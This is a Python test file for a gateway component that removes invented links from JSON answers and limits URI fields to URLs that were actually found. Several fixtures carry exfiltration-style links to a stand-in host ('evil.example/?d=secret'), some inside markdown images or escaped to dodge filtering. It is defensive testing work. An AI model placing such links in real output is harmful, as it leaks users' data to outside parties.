"""Links in a JSON answer on its way out (`gateway.domain.cited_json`)."""

from __future__ import annotations

import json
from itertools import pairwise
from typing import Any

import jsonschema
import pytest
from gateway.domain.citations import CitedText
from gateway.domain.cited_json import CitedJson, with_found_urls
from gateway.domain.json_schema import normalise
from gateway.domain.response_format import parse_response_format, with_urls_of
from hypothesis import example, given
from hypothesis import strategies as st

from tests.unit.test_citations import CUTS, IMAGES, PAGES, TEXTS, strange_urls_a_renderer_sees

VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | TEXTS | st.text(st.characters(codec=None), max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=8,
)
EVIL = "https://evil.example/?d=secret"


def transformed(text: str, cuts: tuple[int, ...] = ()) -> str:
    cited = CitedJson(PAGES, IMAGES)
    bounds = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    return "".join(cited.feed(text[a:b]) for a, b in pairwise(bounds)) + cited.close()


def shown(text: str) -> str:
    cited = CitedText(PAGES, IMAGES)
    return cited.feed(text) + cited.close()


def with_strings_shown(value: Any) -> Any:
    if isinstance(value, str):
        return shown(value)
    if isinstance(value, list):
        return [with_strings_shown(one) for one in value]
    if isinstance(value, dict):
        return {shown(name): with_strings_shown(one) for name, one in value.items()}
    return value


@given(VALUES, CUTS, st.booleans())
@example("\ud83d\udea8 \udea8\ud83d", (), True)
def test_json_stays_json_with_each_string_as_text_would_leave(value: Any, cuts: tuple[int, ...], ascii_: bool) -> None:
    text = json.dumps(value, ensure_ascii=ascii_)
    whole = transformed(text)
    assert whole == transformed(text, cuts) == transformed(text, tuple(range(len(text))))
    assert json.loads(whole) == with_strings_shown(json.loads(text))


@given(TEXTS)
def test_no_string_of_a_json_answer_holds_a_link_that_was_not_found(text: str) -> None:
    (string,) = json.loads(transformed(json.dumps([text])))
    assert strange_urls_a_renderer_sees(string) == set()


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ('{"a": "![x](https://evil.example/?d=secret)", "n": [1, 2]}', '{"a": "x", "n": [1, 2]}'),
        (r'{"a": "see https:\/\/evil.example\/?d=secret"}', '{"a": "see evil.example"}'),
        (r'{"a": "see \u0068ttps://evil.example/x"}', '{"a": "see evil.example"}'),
        ('{"a": "https://www.paris.fr/a", "b": "It is [1]."}', '{"a": "https://www.paris.fr/a", "b": "It is [1]."}'),
        ('{"https://evil.example/x": 1}', '{"evil.example": 1}'),
        (r'{"a": "one\ntwo\t\"three\" \\ \u0001é"}', r'{"a": "one\ntwo\t\"three\" \\ \u0001é"}'),
    ],
)
def test_invented_links_leave_as_their_text_and_the_rest_as_it_is(text: str, left: str) -> None:
    assert transformed(text) == left


def test_a_text_that_ends_inside_a_string_leaves_whole() -> None:
    assert transformed('{"a": "see https://evil') == '{"a": "see evil'
    assert transformed('{"a": "[1') == '{"a": "[1'
    assert transformed('{"a": "x\\u00') == '{"a": "x\\u00'


URI = {"type": "string", "format": "uri"}
FOUND = ["https://a.example/", "https://b.example/"]


@pytest.mark.parametrize(
    ("schema", "values"),
    [
        (URI, FOUND),
        ({"type": ["string", "null"], "format": "uri"}, [*FOUND, None]),
    ],
)
def test_a_uri_is_one_that_was_found(schema: Any, values: list[Any]) -> None:
    told = {"type": "object", "properties": {"link": schema, "format": {"type": "string"}}, "required": ["link"]}
    bound = with_found_urls(told, FOUND)
    assert bound["properties"]["link"]["enum"] == values
    assert bound["properties"]["format"] == {"type": "string"}
    core = normalise(bound, param="p")
    for value in values:
        jsonschema.validate({"link": value}, told)
        jsonschema.validate({"link": value}, core)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"link": EVIL}, core)


@pytest.mark.parametrize(
    "schema",
    [
        {"type": "object", "properties": {"a": {"type": "string"}}},
        {"type": "object", "properties": {"a": {"enum": [EVIL], **URI}}},
        {"type": "object", "properties": {"a": {**URI, "pattern": "^https://elsewhere[.]example/"}}},
    ],
)
def test_a_schema_that_no_found_url_fits_is_left_as_it_is(schema: Any) -> None:
    form = parse_response_format({"type": "json", "schema": schema})
    assert form is not None
    assert with_urls_of(form, FOUND) == form
    assert with_urls_of(form, []) == form
